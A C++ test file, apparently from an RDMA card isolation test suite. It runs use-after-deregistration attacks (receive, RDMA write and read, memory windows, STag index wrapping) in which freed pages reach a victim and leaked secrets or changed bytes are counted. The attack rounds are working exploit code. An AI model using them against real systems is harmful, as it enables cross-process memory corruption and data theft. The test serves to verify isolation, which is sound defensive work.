// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
// The attacker deregisters a region after the card has begun to use it, and before it has placed or sent the
// data. The pages, and the list of pages on the card, then go to the victim. The accomplice delivers, or
// reads what comes.
#include "cases.hh"

#include "card.hh"

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <functional>
#include <map>
#include <memory>
#include <sstream>
#include <stdexcept>
#include <sys/mman.h>
#include <unistd.h>

namespace isolation {

namespace {

using namespace probe;
using prog::Clock;
using prog::in_ms;

constexpr size_t page = 4096, huge_page = 2 << 20;
constexpr int limit_ms = 10000;
constexpr size_t segment_size = 1400;
constexpr unsigned small_window = 8192;      // the receive buffer of an accomplice that does not read
constexpr size_t received = 8 * page;        // of a message to the attacker
constexpr size_t held = 512 << 10;           // more than a small window and what a card keeps
constexpr size_t huge_offset = 64 << 10;     // in the huge page
constexpr unsigned index_shift = 8;          // of an STag
constexpr unsigned most_indexes = 2 * 32768; // the ids of STags wrap before

// Pages of the attacker.
class Pages {
public:
    explicit Pages(size_t size, bool huge = false)
        : size_(size + (huge ? huge_page : 0)),
          start_(mmap(nullptr, size_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)) {
        if (start_ == MAP_FAILED)
            throw std::runtime_error("mmap");
        at = static_cast<uint8_t*>(start_);
        if (huge) {
            at += -reinterpret_cast<uintptr_t>(start_) % huge_page;
            madvise(at, huge_page, MADV_HUGEPAGE);
        }
        std::memset(at, 'a', size);
    }
    ~Pages() { unmap(); }
    Pages(const Pages&) = delete;
    Pages& operator=(const Pages&) = delete;

    void unmap() {
        if (start_)
            munmap(start_, size_);
        start_ = nullptr;
    }
    uint64_t address() const { return reinterpret_cast<uintptr_t>(at); }

    uint8_t* at;

private:
    size_t size_;
    void* start_;
};

// The connection of the attacker with the accomplice.
struct Attack {
    Attack(const std::string& address, uint16_t port, unsigned window)
        : peer(address, port), card(peer, address, port, options(window)) {
        card.connect();
    }

    static Connection::Options options(unsigned window) {
        Connection::Options out;
        out.receive_buffer = window;
        return out;
    }

    void post_receive(uint64_t address, uint32_t length, uint32_t lkey) {
        ibv_sge sge{address, length, lkey};
        ibv_recv_wr wr{}, *bad = nullptr;
        wr.sg_list = &sge;
        wr.num_sge = length ? 1 : 0;
        if (ibv_post_recv(card.id()->qp, &wr, &bad))
            throw std::runtime_error("ibv_post_recv");
    }
    void post_write(uint64_t address, uint32_t length, uint32_t lkey) {
        ibv_sge sge{address, length, lkey};
        ibv_send_wr wr{}, *bad = nullptr;
        wr.sg_list = &sge;
        wr.num_sge = 1;
        wr.opcode = IBV_WR_RDMA_WRITE;
        wr.send_flags = IBV_SEND_SIGNALED;
        wr.wr.rdma.rkey = 0x1234;
        if (ibv_post_send(card.id()->qp, &wr, &bad))
            throw std::runtime_error("ibv_post_send");
    }
    // The card executes a ring in order: afterwards it has executed all requests before.
    void let_it_execute() {
        ibv_send_wr wr{}, *bad = nullptr;
        wr.opcode = IBV_WR_SEND;
        wr.send_flags = IBV_SEND_SIGNALED;
        if (ibv_post_send(card.id()->qp, &wr, &bad))
            throw std::runtime_error("ibv_post_send");
        expect(card.sends().cq(), "a SEND");
        if (peer.fpdus(1, limit_ms).empty())
            throw std::runtime_error("the SEND did not arrive");
    }
    bool connected() const {
        ibv_qp_attr attr{};
        ibv_qp_init_attr init{};
        return !ibv_query_qp(card.id()->qp, &attr, IBV_QP_STATE, &init) && attr.qp_state == IBV_QPS_RTS;
    }
    bool completed(ibv_cq* cq) {
        const auto until = in_ms(limit_ms);
        bool ended = false;
        ibv_wc wc;
        for (unsigned polls = 1; ibv_poll_cq(cq, 1, &wc) == 0; polls++) {
            if (ended || Clock::now() > until)
                throw std::runtime_error("no completion came");
            usleep(100);
            ended = polls % 256 == 0 && !connected();
        }
        return wc.status == IBV_WC_SUCCESS;
    }
    void expect(ibv_cq* cq, const char* what) {
        if (!completed(cq))
            throw std::runtime_error(std::string(what) + " failed");
    }

    // A tagged or untagged message of the accomplice, in segments.
    void deliver(Segment segment, size_t length) {
        Bytes all;
        for (size_t at = 0; at < length; at += segment_size) {
            const size_t part = std::min(segment_size, length - at);
            segment.payload.assign(part, 0xee);
            segment.last = at + part == length;
            const auto bytes = fpdu(segment);
            all.insert(all.end(), bytes.begin(), bytes.end());
            if (segment.tagged())
                segment.to += part;
            else
                segment.mo += static_cast<uint32_t>(part);
        }
        peer.send(all);
    }
    void deliver_message(size_t length) {
        Segment message;
        message.msn = ++messages;
        if (length)
            deliver(message, length);
        else
            peer.send(message);
    }
    void request_read(uint64_t address, uint32_t length, uint32_t rkey) {
        rdmap_read_request body{};
        body.sink_stag = to_be32(0x4321);
        body.size = to_be32(length);
        body.source_stag = to_be32(rkey);
        body.source_to = to_be64(address);
        Segment request;
        request.opcode = RDMAP_READ_REQUEST;
        request.msn = ++reads;
        request.payload.resize(sizeof(body));
        std::memcpy(request.payload.data(), &body, sizeof(body));
        peer.send(request);
    }
    // Returns once the accomplice, which does not read, has segments of a message.
    template <class Begin> void begin_to_send(Begin begin) {
        const unsigned before = peer.info().data_segments_in;
        begin();
        const auto until = in_ms(limit_ms);
        while (peer.info().data_segments_in < before + 2)
            if (Clock::now() > until)
                throw std::runtime_error("the card sent nothing");
    }
    // The data of the message that begin_to_send() has begun; fewer if the connection ends.
    Bytes rest(size_t length) {
        Bytes all;
        const auto until = in_ms(3 * limit_ms);
        while (all.size() < length && !peer.ended() && Clock::now() < until)
            for (const auto& segment : peer.fpdus(1, limit_ms))
                if (segment.tagged())
                    all.insert(all.end(), segment.payload.begin(), segment.payload.end());
        return all;
    }

    Peer peer;
    Connection card;
    uint32_t messages = 0, reads = 0;
};

class Region {
public:
    Region(Attack& attack, const Pages& pages, size_t size, int access)
        : mr_(ibv_reg_mr(attack.card.pd(), pages.at, size, access)) {
        if (!mr_)
            throw std::runtime_error("ibv_reg_mr");
    }
    ~Region() {
        if (mr_)
            ibv_dereg_mr(mr_);
    }
    Region(const Region&) = delete;
    Region& operator=(const Region&) = delete;

    // False: it is refused.
    bool deregister() {
        if (ibv_dereg_mr(mr_))
            return false;
        mr_ = nullptr;
        return true;
    }
    ibv_mr* operator->() const { return mr_; }
    ibv_mr* get() const { return mr_; }

private:
    ibv_mr* mr_;
};

struct WindowsRefused {
    int error;
};

class Window {
public:
    Window(Attack& attack, const Region& region, const Pages& pages, size_t size)
        : mw_(ibv_alloc_mw(attack.card.pd(), IBV_MW_TYPE_1)) {
        if (!mw_)
            throw WindowsRefused{errno};
        ibv_mw_bind bind{};
        bind.send_flags = IBV_SEND_SIGNALED;
        bind.bind_info.mr = region.get();
        bind.bind_info.addr = pages.address();
        bind.bind_info.length = size;
        bind.bind_info.mw_access_flags = IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_WRITE;
        if (const int error = ibv_bind_mw(attack.card.id()->qp, mw_, &bind)) {
            ibv_dealloc_mw(mw_);
            throw std::runtime_error(std::string("ibv_bind_mw: ") + std::strerror(error));
        }
        attack.expect(attack.card.sends().cq(), "a bind");
    }
    ~Window() { ibv_dealloc_mw(mw_); }
    Window(const Window&) = delete;
    Window& operator=(const Window&) = delete;
    uint32_t rkey() const { return mw_->rkey; }

private:
    ibv_mw* mw_;
};

struct Outcome {
    unsigned delivered = 0; // rounds in which the data went somewhere
    unsigned refused = 0;   // rounds in which the connection ended, or the deregistration was refused
    uint64_t changed = 0;   // bytes of the victim
    uint64_t leaked = 0;    // pieces of the victim's memory that the accomplice received
    std::string error;      // of the last refused round
};

uint64_t secrets_in(const Bytes& bytes) {
    uint64_t count = 0;
    for (auto at = bytes.begin();; count++, at += secret_length) {
        at = std::search(at, bytes.end(), secret, secret + secret_length);
        if (at == bytes.end())
            return count;
    }
}

// The next region gets this index.
void use_up_indexes_before(Attack& attack, uint32_t index) {
    for (unsigned tried = 0; tried < most_indexes; tried++) {
        ibv_mw* const window = ibv_alloc_mw(attack.card.pd(), IBV_MW_TYPE_1);
        if (!window)
            throw std::runtime_error("ibv_alloc_mw");
        const uint32_t got = window->rkey >> index_shift;
        ibv_dealloc_mw(window);
        if (got + 1 == index)
            return;
    }
    throw std::runtime_error("the index did not come again");
}

using Round = std::function<void(Attack&, Victim&, Take, Outcome&)>;

void receive(Attack& attack, Victim& victim, Take take, Outcome& out) {
    const bool huge = take == Take::huge;
    Pages pages(huge ? huge_page : received, huge);
    Region region(attack, pages, huge ? huge_page : received, IBV_ACCESS_LOCAL_WRITE);
    attack.post_receive(pages.address() + (huge ? huge_offset : 0), received, region->lkey);
    attack.let_it_execute();
    region.deregister();
    pages.unmap();
    victim.take(take, received);
    attack.deliver_message(received);
    out.delivered += attack.completed(attack.card.receives().cq());
}

void write(Attack& attack, Victim& victim, Take take, Outcome& out) {
    Pages pages(held);
    Region region(attack, pages, held, IBV_ACCESS_LOCAL_WRITE);
    attack.begin_to_send([&] { attack.post_write(pages.address(), held, region->lkey); });
    region.deregister();
    pages.unmap();
    victim.take(take, held);
    const auto got = attack.rest(held);
    out.leaked += secrets_in(got);
    out.delivered += got.size() == held && attack.completed(attack.card.sends().cq());
}

void read(Attack& attack, Victim& victim, Take take, Outcome& out) {
    Pages pages(held);
    Region region(attack, pages, held, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ);
    attack.begin_to_send([&] { attack.request_read(pages.address(), held, region->rkey); });
    region.deregister();
    pages.unmap();
    victim.take(take, held);
    const auto got = attack.rest(held);
    out.leaked += secrets_in(got);
    out.delivered += got.size() == held;
}

constexpr int bindable =
    IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_MW_BIND;

// Wrapped: the victim's region gets the index of the attacker's.
void through_window(Attack& attack, Victim& victim, Take take, Outcome& out, bool wrapped) {
    Pages pages(received);
    Region region(attack, pages, received, bindable);
    const uint32_t index = region->lkey >> index_shift;
    const Window window(attack, region, pages, received);
    const uint64_t address = pages.address();
    if (!region.deregister()) {
        out.refused++;
        return;
    }
    pages.unmap();
    if (wrapped)
        use_up_indexes_before(attack, index);
    victim.take(take, received);
    attack.post_receive(0, 0, 0);
    Segment segment;
    segment.opcode = RDMAP_WRITE;
    segment.stag = window.rkey();
    segment.to = address;
    attack.deliver(segment, received);
    attack.deliver_message(0);
    out.delivered += attack.completed(attack.card.receives().cq());
}

void window_read(Attack& attack, Victim& victim, Take take, Outcome& out) {
    Pages pages(held);
    Region region(attack, pages, held, bindable);
    const Window window(attack, region, pages, held);
    attack.begin_to_send([&] { attack.request_read(pages.address(), held, window.rkey()); });
    if (!region.deregister()) {
        attack.rest(held);
        out.refused++;
        return;
    }
    pages.unmap();
    victim.take(take, held);
    const auto got = attack.rest(held);
    out.leaked += secrets_in(got);
    out.delivered += got.size() == held;
}

struct Kind {
    Round round;
    std::vector<Take> takes;
    unsigned window; // of the accomplice
};

const std::map<std::string, Kind> kinds{
    {"receive", {receive, {Take::region, Take::pages}, 0}},
    {"huge", {receive, {Take::huge}, 0}},
    {"write", {write, {Take::region, Take::pages}, small_window}},
    {"read", {read, {Take::region, Take::pages}, small_window}},
    {"window",
     {[](auto& a, auto& v, auto t, auto& o) { through_window(a, v, t, o, false); },
      {Take::region, Take::pages},
      0}},
    {"wrapped",
     {[](auto& a, auto& v, auto t, auto& o) { through_window(a, v, t, o, true); }, {Take::region}, 0}},
    {"window_read", {window_read, {Take::region, Take::pages}, small_window}},
};

Outcome attack(Case& c, const Kind& kind, unsigned rounds) {
    Outcome out;
    std::unique_ptr<Attack> attack;
    for (unsigned round = 0; round < rounds; round++) {
        const Take take = kind.takes[round % kind.takes.size()];
        const unsigned before = out.delivered + out.refused;
        try {
            if (!attack)
                attack = std::make_unique<Attack>(c.args.address, c.peer_port, kind.window);
            kind.round(*attack, c.victim, take, out);
        } catch (const std::exception& error) {
            out.error = error.what();
        }
        out.changed += c.victim.changed();
        if (out.delivered + out.refused == before) { // the connection has ended
            out.refused++;
            attack.reset();
        }
    }
    return out;
}

} // namespace

void memory(Case& c) {
    prog::Json json;
    bool good = true;
    std::istringstream names(c.args.value("kinds", "receive,huge,write,read,window,wrapped,window_read"));
    for (std::string name; std::getline(names, name, ',');) {
        const auto kind = kinds.find(name);
        if (kind == kinds.end())
            prog::fail("no such kind: %s", name.c_str());
        const auto rounds = static_cast<unsigned>(name == "wrapped" ? 1 : c.args.number("rounds", 20));
        try {
            const auto out = attack(c, kind->second, rounds);
            good &= !out.changed && !out.leaked;
            json.add((name + "_delivered").c_str(), out.delivered)
                .add((name + "_refused").c_str(), out.refused)
                .add((name + "_changed").c_str(), static_cast<unsigned long long>(out.changed))
                .add((name + "_leaked").c_str(), static_cast<unsigned long long>(out.leaked))
                .add((name + "_error").c_str(), out.error);
        } catch (const WindowsRefused& refused) {
            json.add((name + "_windows").c_str(), std::string(strerrorname_np(refused.error)));
            good &= refused.error == EOPNOTSUPP;
        }
    }
    json.finish(good);
}

} // namespace isolation
